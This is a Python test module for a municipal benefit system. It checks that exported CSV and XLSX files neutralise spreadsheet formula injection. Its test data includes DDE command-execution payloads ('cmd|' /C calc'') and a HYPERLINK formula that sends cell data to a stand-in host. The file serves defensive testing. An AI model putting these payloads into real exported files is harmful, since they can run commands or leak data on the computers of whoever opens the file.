"""No file the product writes hands a spreadsheet a live formula (security review, issue 12, finding 7).

A value from outside (a name or a 世帯番号 in a target list, a value a report echoes) that begins
with = + - @, a tab or a carriage return, or with a full-width ＝ ＋ － ＠, reaches every CSV behind
a single quote and every XLSX as a text cell carrying Excel's quote prefix. Plain numbers and
E.164 phone numbers are written as they are: no spreadsheet reads them as a formula.

Each file is read back with an independent reader (the csv module, openpyxl's load_workbook).
"""

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from exchange.drop.processing import report_csv
from exchange.results.files import cp932_csv, xlsx
from exchange.results.payments import approve_payment_batch, export_payment_batch, prepare_payment_batch
from exchange.results.status import write_result_files
from exchange.targets.mapping import load_mapping
from exchange.targets.service import import_target_file
from exchange.targets.validate import read_target_list
from mailroom.printing.runs import print_programme
from secretariat.core.applications.states import Status
from secretariat.core.auth.actor import Actor
from secretariat.core.households.models import Household
from tests.exchange.upload_support import uploaded

SYSTEM = Actor.system("test")
NAMES = ["=1+1", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+HYPERLINK("http://x.example/?"&A1)',
         "＝１＋１", "＠SUM(A1)"]
NAME, HOUSEHOLD = 2, 0  # columns: 氏名 in a target list; 世帯番号 in the status file


def csv_rows(data: bytes, encoding: str = "cp932") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def workbook_cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def status_files(factory, programme, rows, write, tmp_path):
    """A target list whose heads of household are named with formulas, imported, and its status
    files written: (CSV path, XLSX path, 世帯番号 → the name as sent)."""
    heads = [i for i, row in enumerate(rows) if row[6] in ("世帯主", "本人")][:len(NAMES)]
    for index, name in zip(heads, NAMES):
        rows[index][NAME] = name
    with factory.session() as session:
        record, listing = import_target_file(session=session, actor=SYSTEM, programme=programme, path=write(rows))
        assert record.status == "imported", listing.errors
        paths = write_result_files(session=session, actor=SYSTEM, programme=programme, out_dir=tmp_path / "out",
                                   on=date(2026, 12, 1))
        session.commit()
    status = next(p for p in paths if p.name.startswith("status-") and p.suffix == ".csv")
    return status, status.with_suffix(".xlsx"), {rows[i][1]: rows[i][NAME] for i in heads}


def test_formula_names_from_a_target_list_reach_the_status_csv_behind_a_quote(status_files):
    status_csv, _, sent = status_files
    written = {row[HOUSEHOLD]: row[NAME] for row in csv_rows(status_csv.read_bytes())[1:]}
    assert {number: written[number] for number in sent} == {number: "'" + name for number, name in sent.items()}


def test_formula_names_are_text_cells_with_a_quote_prefix_in_the_status_xlsx(status_files):
    _, status_xlsx, sent = status_files
    cells = workbook_cells(status_xlsx.read_bytes())
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    named = [cell for cell in cells if cell.value in sent.values()]
    assert sorted(cell.value for cell in named) == sorted(sent.values())  # the value itself is unchanged
    assert {(cell.data_type, cell.quotePrefix) for cell in named} == {("s", True)}


def test_the_validation_report_quotes_a_formula_it_echoes(rows, write):
    rows[3][4] = "=1+1"  # 生年月日
    listing = read_target_list(write(rows), load_mapping())
    report = csv_rows(report_csv("取込せず", listing.errors, listing.warnings))
    assert [(row[0], row[2]) for row in report if row[3] == "bad_date"] == [("4", "'=1+1")]


def test_the_report_downloaded_from_the_liaison_s_page_quotes_a_formula(factory, client, login, rows, write):
    tenant = factory.tenant(households=0)
    token = login(factory.user("liaison", tenant.municipality))
    rows[3][4] = "@SUM(1+9)*cmd|' /C calc'!A0"
    page = uploaded(client, tenant.programme, token, write(rows), "t.csv")
    report = client.get(re.search(r'href="(/exchange/files/\d+/report\.csv)"', page.text).group(1))
    assert [row[2] for row in csv_rows(report.content) if row[0] == "4"] == ["'@SUM(1+9)*cmd|' /C calc'!A0"]


def test_an_e164_phone_echoed_in_the_report_keeps_its_plus(rows, write):
    rows[4][10] = "+819012345678"  # 電話番号: refused (we store 10 or 11 domestic digits), and echoed
    listing = read_target_list(write(rows), load_mapping())
    report = csv_rows(report_csv("取込せず", listing.errors, listing.warnings))
    assert [(row[0], row[2]) for row in report if row[3] == "bad_phone"] == [("5", "+819012345678")]


@pytest.mark.parametrize("value", ["=1+1", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1",
                                   "\r=1+1", "＝１＋１", "＋１＋１", "－１＋１", "＠SUM(A1)", "+81 90-1234-5678"])
def test_a_value_a_spreadsheet_could_evaluate_gets_a_quote_in_csv(value):
    assert csv_rows(cp932_csv(["値"], [[value]]))[1] == ["'" + value]


@pytest.mark.parametrize("value", ["+819012345678", "-5", "-1.5", "+3", ".5", "0120-123-456", "a=1+1", " =1+1",
                                   "山田　太郎"])
def test_numbers_e164_phones_and_other_text_are_written_as_they_are_in_csv(value):
    assert csv_rows(cp932_csv(["値"], [[value]]))[1] == [value]


def test_numbers_and_e164_phones_carry_no_quote_prefix_in_xlsx():
    cells = workbook_cells(xlsx(["電話", "差", "金額"], [["+819012345678", "-5", -7]], "t"))
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells[3:]] == [
        ("+819012345678", "s", False), ("-5", "s", False), (-7, "n", False)]


@pytest.mark.parametrize("value", ["=1+1", "#N/A"])
def test_text_openpyxl_would_take_for_a_formula_or_an_error_stays_text_in_xlsx(value):
    cell = workbook_cells(xlsx(["氏名"], [[value]], "t"))[1]
    assert (cell.value, cell.data_type) == (value, "s")


def test_a_control_character_in_a_name_becomes_the_geta_mark_in_xlsx_rather_than_stopping_it():
    cell = workbook_cells(xlsx(["氏名"], [["山田\x07太郎"]], "t"))[1]
    assert cell.value == "山田〓太郎"


def test_a_formula_in_a_household_number_reaches_the_payment_csv_behind_a_quote(factory, tmp_path):
    tenant = factory.tenant(households=1)
    with factory.session() as session:
        household = session.get(Household, tenant.households[0].id)
        household.household_number = "=1+1"
        household.bank_code, household.branch_code, household.account_type = "0005", "001", "ordinary"
        household.account_number, household.account_holder_kana = "0001234", "テスト　タロウ"
        session.add(household)
        session.commit()
    factory.advance(tenant.applications[0], Status.printed, Status.mailed, Status.received, Status.checking,
                    Status.complete, Status.approved)
    maker, checker = factory.actor("supervisor"), factory.actor("supervisor")
    with factory.session() as session:
        batch = prepare_payment_batch(session=session, actor=maker, programme=tenant.programme,
                                      transfer_date=date(2026, 12, 10), requester_code="1234567890",
                                      requester_name_kana="テストシ", from_bank_code="0001", from_branch_code="001",
                                      from_account_number="1234567").batch
        approve_payment_batch(session=session, actor=checker, batch=batch)
        paths = export_payment_batch(session=session, actor=checker, batch=batch, out_dir=tmp_path)
        session.commit()
    table = next(p for p in paths if p.suffix == ".csv")
    assert csv_rows(table.read_bytes())[1][0] == "'=1+1"


def test_a_formula_in_a_household_number_reaches_the_print_manifest_behind_a_quote(factory, tmp_path):
    tenant = factory.tenant(households=1)
    with factory.session() as session:
        household = session.get(Household, tenant.households[0].id)
        household.household_number = "=1+1"
        session.add(household)
        session.commit()
        run = print_programme(session=session, actor=SYSTEM, programme=session.merge(tenant.programme),
                              out_root=tmp_path)
    manifest = (Path(run.directory) / "manifest.csv").read_bytes()
    assert [row["household_number"] for row in csv.DictReader(io.StringIO(manifest.decode("utf-8-sig")))] == [
        "'=1+1"]

